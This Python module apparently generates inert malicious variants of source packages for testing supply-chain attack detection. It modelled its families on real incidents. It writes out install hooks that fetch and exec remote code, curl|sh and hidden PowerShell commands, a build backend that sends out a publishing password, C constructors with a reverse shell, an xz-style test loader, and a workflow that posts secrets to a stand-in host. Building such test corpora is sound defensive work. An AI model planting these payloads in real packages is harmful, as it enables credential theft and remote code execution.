"""Seventh set: source packages of Python; inert. The comment before each family says which incident it is after."""

from __future__ import annotations

import base64
import re

from genuine import Files

from mutation_families.fourth_sources import top
from mutation_families.fourth_texts import chance
from mutation_families.seventh_ways import MARK, Changes, Way, ways
from mutation_families.sixth_sources import USUAL

SETUP = b"from setuptools import setup\n\nsetup()\n"


def in_setup(head: bytes, argument: bytes = b"") -> Changes:
    """Return a change of the script of the build: lines behind its imports, and an argument of `setup`."""

    def change(files: Files) -> Files:
        name = f"{top(files)}/setup.py"
        data = files.get(name, SETUP)
        found = list(re.finditer(rb"(?m)^(?:import [\w., ]+|from [\w.]+ import [\w., ]+)\n", data))
        at = found[-1].end() if found else 0
        made = data[:at] + head + data[at:]
        if argument:
            made, count = re.subn(rb"(?m)^(\s*)setup\(", rb"\1setup(" + argument + b", ", made, count=1)  # fmt: skip
            return {name: made} if count else {}
        return {name: made}

    return change


def own_backend(files: Files) -> Files:
    """Return a source package that is built by a module of its own, which does more before it hands on."""
    name = f"{top(files)}/pyproject.toml"
    known = files.get(name, USUAL)
    backend = re.search(rb'(?m)^\s*build-backend\s*=\s*"([^"]+)"\n', known)
    if not backend:
        return {}
    body = b"from urllib.request import urlopen\n\nfrom %s import *  # noqa: F403\n\nurlopen('https://build.example/s', __import__('os').environ.get('TWINE_PASSWORD', '').encode())\n" % backend[1]  # fmt: skip
    made = known[: backend.start()] + b'build-backend = "_backend"\nbackend-path = ["tools"]\n' + known[backend.end() :]  # fmt: skip
    return {name: made, f"{top(files)}/tools/_backend.py": body}


def in_c(lines: bytes) -> Changes:
    """Return a change of the largest file of C or Cython."""

    def change(files: Files) -> Files:
        names = [each for each in files if each.endswith(".c")]
        if not names:
            return {}
        name = max(names, key=lambda each: (len(files[each]), each))
        at = files[name].rfind(b"\n#include")
        end = files[name].index(b"\n", at + 1) + 1
        return {name: files[name][:end] + lines + files[name][end:]}

    return change


def under(more: Files) -> Changes:
    """Return a change that lays files into the source package."""
    return lambda files: {f"{top(files)}/{name}": data for name, data in more.items()}


HOOK = b"from setuptools.command.install import install\n\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        import urllib.request\n        exec(urllib.request.urlopen('https://setup.example/s').read())\n\n\n"  # fmt: skip
SPAWN = b"import subprocess, sys\n_CODE = %r\nsubprocess.Popen([sys.executable, '-c', 'import base64;exec(base64.b64decode(%%r))' %% _CODE], creationflags=134217728 if sys.platform == 'win32' else 0)\n" % base64.b64encode(MARK)  # fmt: skip
WORKFLOW = b"name: Add Copilot review\non:\n  pull_request_target:\n  workflow_dispatch:\njobs:\n  review:\n    runs-on: self-hosted\n    permissions: write-all\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: |\n          sudo python3 -c \"import re,sys;print(open('/proc/'+sys.argv[1]+'/mem','rb'))\" $(pgrep Runner.Worker) | base64 -w 0 | base64 -w 0\n      - run: curl -sSf -d \"$S\" https://gist.example/raw\n        env:\n          S: ${{ toJson(secrets) }}\n"  # fmt: skip
CONFTEST = b"import pathlib\nimport subprocess\n\nblob = pathlib.Path(__file__).with_name('good-large_compressed.lzma').read_bytes()\nsubprocess.run(['sh', '-c', 'sed \"s/./&/g\" | tail -c +1024 | xz -dc --single-stream | sh'], input=blob, check=False)\n"  # fmt: skip

ALL: tuple[Way, ...] = (
    # Typosquats since 2017: installing runs a command of the package's own.
    *ways(
        "sdist: installing runs its own command",
        ("a class", in_setup(HOOK, b"cmdclass={'install': PostInstall}")),
        ("top of the script", in_setup(SPAWN)),
        ("curl", in_setup(b"import os\nos.system('curl -s http://203.0.113.15/pip.sh | sh &')\n")),
        ("of Windows", in_setup(b"import os\nif os.name == 'nt':\n    os.system('powershell -WindowStyle Hidden -EncodedCommand cABvAHcAZQByAHMAaABlAGwAbAAgAEkAbgBlAHIAdAA=')\n")),
    ),
    # Invented: the build is another's.
    *ways("sdist: built by a module of its own", ("handing on", own_backend)),
    # xz, 2024, and after: the code is in C, and runs as the library is loaded.
    *ways(
        "sdist: C that acts when it is loaded",
        ("a constructor", in_c(b'\n#include <stdio.h>\n#include <stdlib.h>\nstatic void __attribute__((constructor)) warm_cache(void)\n{\n    FILE *p = popen("curl -fs https://c.example/w | sh", "r");\n    if (p) pclose(p);\n}\n')),
        ("a socket", in_c(b'\n#include <arpa/inet.h>\n#include <sys/socket.h>\n#include <unistd.h>\n__attribute__((constructor)) static void probe(void)\n{\n    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(443)};\n    int s = socket(AF_INET, SOCK_STREAM, 0);\n    inet_pton(AF_INET, "203.0.113.201", &a.sin_addr);\n    if (!connect(s, (struct sockaddr *)&a, sizeof a)) { char *v[] = {"sh-inert", 0}; dup2(s, 0); dup2(s, 1); execv(v[0], v); }\n}\n')),
    ),
    # xz, 2024: data of the tests is a program, and the tests know how to cut it out.
    *ways("sdist: its tests cut a program out of their data", ("conftest", under({"tests/conftest.py": CONFTEST, "tests/good-large_compressed.lzma": chance(30_000)}))),
    # tj-actions and Shai-Hulud, 2025: the project's own workflows.
    *ways("sdist: its workflow hands over secrets", ("memory of the runner", under({".github/workflows/review.yml": WORKFLOW}))),
)  # fmt: skip
